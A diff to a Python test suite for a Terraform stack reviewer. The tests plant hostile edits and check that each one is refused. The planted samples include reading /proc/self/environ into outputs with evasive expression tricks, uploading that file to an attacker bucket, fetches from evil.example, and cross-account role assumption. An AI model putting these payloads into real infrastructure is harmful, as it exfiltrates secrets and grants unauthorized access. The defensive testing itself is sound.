@@ -4,6 +4,7 @@ credentials elsewhere during `terraform plan`, planted into a real stack of the 
 
 import copy
 import json
+import re
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -12,7 +13,9 @@ from hypothesis import strategies as st
 from modules.plan.layout import plan
 from modules.registry.validate import load_registry
 from modules.review.allowlist import DATA_SOURCES, FUNCTIONS, RESOURCE_TYPES, problems
+from modules.review.bodies import READS_FILES
 from modules.review.hclscan import Found, Unscannable, scan_document, scan_template
+from modules.review.placement import PLACEMENT, alias
 from modules.review.stackshape import PROVIDER_VERSION, REQUIRED_PROVIDERS, expect
 from modules.review.strictjson import StrictJsonError, loads, shown
 from tests.helpers import EXAMPLE, TESTS
@@ -37,6 +40,7 @@ def test_the_example_and_every_valid_fixture_pass_and_use_exactly_the_listed_typ
     from tests.synth.test_safety import VALID
 
     resources, data, calls = set(), set(), Found()
+    placed: dict[tuple[str, str], set[str]] = {}
     cases = [(EXAMPLE, example_out)] + [synthesized_fixture(case) for case in VALID]
     for registry, out in cases:
         reg = load_registry(registry)
@@ -45,6 +49,10 @@ def test_the_example_and_every_valid_fixture_pass_and_use_exactly_the_listed_typ
             assert problems(name, doc, e) == [], (registry, name)
             resources |= set(doc.get("resource", {}))
             data |= set(doc.get("data", {}))
+            for section in ("resource", "data"):
+                for tf_type, items in doc.get(section, {}).items():
+                    for body in items.values():
+                        placed.setdefault((e.kinds[name], alias(body)), set()).add(f"{section}:{tf_type}")
             scan_document(doc, calls)
             assert doc["terraform"]["required_providers"] == REQUIRED_PROVIDERS, f"the provider is no longer {PROVIDER_VERSION}"
     assert resources <= RESOURCE_TYPES, f"add to modules/review/allowlist.py: {sorted(resources - RESOURCE_TYPES)}"
@@ -52,6 +60,8 @@ def test_the_example_and_every_valid_fixture_pass_and_use_exactly_the_listed_typ
     # The function list is exactly what the compiler writes: a new function fails here until the list knows it, and
     # a function the compiler stopped writing leaves the list (it stays short).
     assert calls.calls == FUNCTIONS, f"update allowlist.FUNCTIONS to {sorted(calls.calls)}"
+    # where each type goes is exactly what the compiler writes, kind of stack by kind of stack, provider by provider
+    assert {k: frozenset(v) for k, v in placed.items()} == PLACEMENT, "update modules/review/placement.py"
 
 
 def _set(path, value):
@@ -66,6 +76,7 @@ def _set(path, value):
 
 DEV = "pricing-dev"
 DEV_ID = '${data.terraform_remote_state.organization.outputs.account_ids["pricing-dev"]}'
+CHURN_PROD = '${data.terraform_remote_state.organization.outputs.account_ids["churn-prod"]}'
 PLANTED = [
     ("http data source", lambda d: d["data"].update({"http": {"x": {"url": "https://evil.example"}}}), 'data source "http" is not allowed'),
     (
@@ -149,7 +160,67 @@ PLANTED = [
     (
         "assume_role with a fixed role",
         _set(["provider", "aws", 0, "assume_role", 0, "role_arn"], f"arn:aws:iam::{DEV_ID}:role/Admin"),
-        "is not an account's role the compiler assumes",
+        "is not a role the compiler assumes for this stack",
+    ),
+    (
+        "assume_role into another team's account (known to the registry)",
+        _set(["provider", "aws", 0, "assume_role", 0, "role_arn"], f"arn:aws:iam::{CHURN_PROD}:role/{MODE}"),
+        "provider.aws[0].assume_role.role_arn:",
+    ),
+    (
+        "assume_role into the log archive from a team stack",
+        _set(["provider", "aws", 2, "assume_role", 0, "role_arn"], f"arn:aws:iam::300000000003:role/{MODE}"),
+        "provider.aws[2].assume_role.role_arn:",
+    ),
+    (
+        "an output naming another account",
+        _set(["output", "account_id", "value"], "100000000001"),
+        'output "account_id".value: "100000000001" where the compiler writes "${data.terraform_remote_state',
+    ),
+    (
+        "an output of another stack's domain",
+        _set(["output", "domain_id", "value"], '${data.terraform_remote_state.identity.outputs.user_ids["amara"]}'),
+        "where the compiler writes a reference to this stack's own aws_sagemaker_domain.<name>.id",
+    ),
+    (
+        "a RAM share ARN of someone else",
+        _set(["output", "ram_share_arns", "value", "price-elasticity-pipeline"], "arn:aws:ram:eu-west-1:999999999999:resource-share/x"),
+        'output "ram_share_arns".value:',
+    ),
+    ("an output of its own", lambda d: d["output"].update({"x": {"value": "y"}}), 'output "x": not an output the compiler writes'),
+    (
+        "an object uploaded from a file of the applying machine",
+        lambda d: d["resource"].update(
+            {"aws_s3_object": {"x": {"bucket": "attacker-bucket", "key": "env", "source": "/proc/self/environ"}}}
+        ),
+        "resource aws_s3_object.x.source: reads a file of the machine that applies",
+    ),
+    (
+        "a Studio lifecycle script of its own",
+        _set(["resource", "aws_sagemaker_studio_lifecycle_config", "libraries-pip-jupyterlab", "studio_lifecycle_config_content"], "ZW52"),
+        "studio_lifecycle_config_content: not the compiler's script for this account's libraries",
+    ),
+    (
+        "an IAM role in the management account, from a team's stack",
+        lambda d: d["resource"].update(
+            {"aws_iam_role": {**d["resource"]["aws_iam_role"], "x": {"name": "x", "provider": "aws.management"}}}
+        ),
+        'resource aws_iam_role."x": the compiler writes no aws_iam_role through the management provider of account stacks',
+    ),
+    (
+        "a block through a provider of no stack",
+        _set(["resource", "aws_vpc", "vpc", "provider"], "evil.x"),
+        'resource aws_vpc."vpc".provider: "evil.x" is not one of the stack\'s AWS providers',
+    ),
+    (
+        "a CodeBuild project in a team stack",
+        lambda d: d["resource"].update({"aws_codebuild_project": {"x": {"name": "x"}}}),
+        "resource aws_codebuild_project.x: a CodeBuild project outside shared services",
+    ),
+    (
+        "a hidden output",
+        lambda d: d["output"]["domain_id"].update({"sensitive": True}),
+        'output "domain_id": only a value and a description',
     ),
     (
         "assume_role with extra keys",
@@ -178,6 +249,21 @@ PLANTED = [
         "output of the environment, base64",
         lambda d: d.setdefault("output", {}).update({"x": {"value": '${base64encode(file("/proc/self/environ"))}'}}),
         'an expression calls "base64encode"()',
+    ),
+    (
+        "a call under a comment key of an object value",
+        lambda d: d["output"].update({"x": {"value": {"//": '${base64encode(file("/proc/self/environ"))}'}}}),
+        'an expression calls "base64encode"()',
+    ),
+    (
+        "a call after a conditional's colon",
+        lambda d: d["output"].update({"x": {"value": '${false?1:base64encode(false?1:file("/proc/self/environ"))}'}}),
+        'a parenthesis after "1:base64encode", which is not a function name',
+    ),
+    (
+        "a call after a minus",
+        lambda d: d["output"].update({"x": {"value": '${1-file("/proc/self/environ")}'}}),
+        'a parenthesis after "1-file", which is not a function name',
     ),
     (
         "a call hidden in a nested template",
@@ -226,17 +312,35 @@ def test_strict_json_refuses_what_terraform_and_python_read_differently():
         loads(b"[" * 100000 + b"]" * 100000)
 
 
-def test_the_scan_reads_escapes_as_terraform_does():
+def _refused(template):
     found = Found()
-    scan_template('$${file(x)} %%{ if } ${contains(["a("], var.access_mode)}', found)
-    assert found.calls == {"contains"}, "escaped templates are text; a call inside a quoted string is not a call"
-    for hidden in ('${"}" == file("x")}', "${ tolist (x)}", '${x ? "a" : lower("B")}', "${{a = upper(b)}}"):
-        found = Found()
-        scan_template(hidden, found)
-        assert found.calls - {"contains"}, hidden
-    for unscannable in ("${x", '${"x', "${x # c\n}", "${é(x)}"):
+    try:
+        scan_template(template, found)
+    except Unscannable:
+        return True
+    return bool(found.calls - FUNCTIONS)
+
+
+def test_the_scan_reads_escapes_as_terraform_does_and_fails_closed():
+    found = Found()
+    scan_template('$${file(x)} %%{ if } ${contains(["a("], var.access_mode)} ${!contains([], "(")}', found)
+    assert found.calls == {"contains"}, "escaped templates are text; a parenthesis inside a quoted string is not a call"
+    hidden = ['${"}" == file("x")}', '${x ? "a" : lower("B")}', "${{a = upper(b)}}", '${"${file("x")}"}']
+    # every `(` must directly follow an allowed name: a space, a digit, a colon, a dot or nothing before it is refused
+    hidden += ["${ tolist (x)}", '${1:file("x")}', '${false?1:file("x")}', '${1-file("x")}', "${(1)}", "${x.contains(1)}"]
+    hidden += ["${contains\n(x)}", "${contains/**/(x)}", '${"a"(x)}']
+    for template in hidden:
+        assert _refused(template), template
+    for unscannable in ("${x", '${"x', "${x # c\n}", "${é(x)}", "${ (x)}"):
         with pytest.raises(Unscannable):
             scan_template(unscannable, Found())
+
+
+def test_a_comment_key_is_scanned_too():
+    """Terraform ignores `//` only in a block body; in an attribute's object value it is a key whose value runs."""
+    found = Found()
+    scan_document({"output": {"x": {"value": {"//": '${file("/proc/self/environ")}'}}}}, found)
+    assert found.calls == {"file"}
 
 
 def test_names_from_a_pull_request_are_shown_quoted_on_one_line():
@@ -276,3 +380,80 @@ def test_the_scan_answers_or_refuses_any_template(template):
         scan_template(template, Found())
     except Unscannable:
         pass
+
+
+SHARED = "shared-services"
+SEED = ["resource", "aws_codebuild_project", "seed-push"]
+PLANTED_SHARED = [
+    ("another buildspec", _set([*SEED, "source", "buildspec"], "version: 0.2\nphases: {build: {commands: [env]}}"), ".source: {"),
+    ("another image", _set([*SEED, "environment", "image"], "evil/image:latest"), ".environment: {"),
+    (
+        "an environment variable",
+        lambda d: d["resource"]["aws_codebuild_project"]["seed-push"]["environment"].update({"environment_variable": [{"name": "X"}]}),
+        ".environment: {",
+    ),
+    ("a secondary source", _set([*SEED, "secondary_sources"], [{"type": "GITHUB"}]), '."secondary_sources": not an argument the compiler'),
+    (
+        "a role of another account",
+        _set([*SEED, "service_role"], "arn:aws:iam::999999999999:role/x"),
+        ".service_role: not a role of this stack",
+    ),
+    (
+        "a template from elsewhere",
+        _set(
+            ["resource", "aws_servicecatalog_provisioning_artifact", "artifact-batch-inference-0_3_1", "template_url"],
+            "https://evil.example/t",
+        ),
+        'template_url: "https://evil.example/t" is not an object of this stack\'s own bucket',
+    ),
+]
+
+
+@pytest.mark.parametrize("what, plant, message", PLANTED_SHARED, ids=[p[0] for p in PLANTED_SHARED])
+def test_what_shared_services_runs_is_the_compilers(example_out, example_expect, what, plant, message):
+    doc = json.loads((example_out / "stacks" / SHARED / "cdk.tf.json").read_text())
+    assert problems(SHARED, doc, example_expect) == []
+    plant(doc)
+    found = problems(SHARED, doc, example_expect)
+    assert any(message in line for line in found), found
+
+
+FILE_LIKE = re.compile(r"(^|_)(source|file|filename|path)$")
+NOT_FILES = {  # paths in AWS, not on the machine that applies: IAM paths, S3 prefixes, EFS folders
+    ("aws_iam_policy", "path"),
+    ("aws_iam_role", "path"),
+    ("aws_codebuild_project", "artifacts.path"),
+    ("aws_codebuild_project", "secondary_artifacts.path"),
+    *[
+        (t, f"{prefix}{p}")
+        for t, prefix in (("aws_sagemaker_domain", "default_user_settings."), ("aws_sagemaker_user_profile", "user_settings."))
+        for p in ("canvas_app_settings.workspace_settings.s3_artifact_path", "sharing_settings.s3_output_path")
+    ],
+    *[
+        (t, f"{prefix}custom_file_system_config.efs_file_system_config.file_system_path")
+        for t, prefix in (
+            ("aws_sagemaker_domain", "default_user_settings."),
+            ("aws_sagemaker_domain", "default_space_settings."),
+            ("aws_sagemaker_user_profile", "user_settings."),
+        )
+    ],
+}
+
+
+def test_every_argument_that_could_name_a_local_file_is_known():
+    """A tripwire for new resource types: every settable argument named like a path in the allowed types is either
+    refused (READS_FILES) or known not to be one (an IAM path)."""
+    from tests.terraform import schema
+
+    resources = schema.load()["resources"]
+
+    def names(block, path=()):
+        for name, attr in block.get("attrs", {}).items():
+            if attr[1] != "c":
+                yield (*path, name)
+        for name, nested in block.get("blocks", {}).items():
+            yield from names(nested[3], (*path, name))
+
+    found = {(t, ".".join(p)) for t in RESOURCE_TYPES for p in names(resources[t]) if FILE_LIKE.search(p[-1])}
+    known = {(t, a) for t, attrs in READS_FILES.items() for a in attrs} | NOT_FILES
+    assert found == known, f"decide for each: {sorted(found ^ known)}"
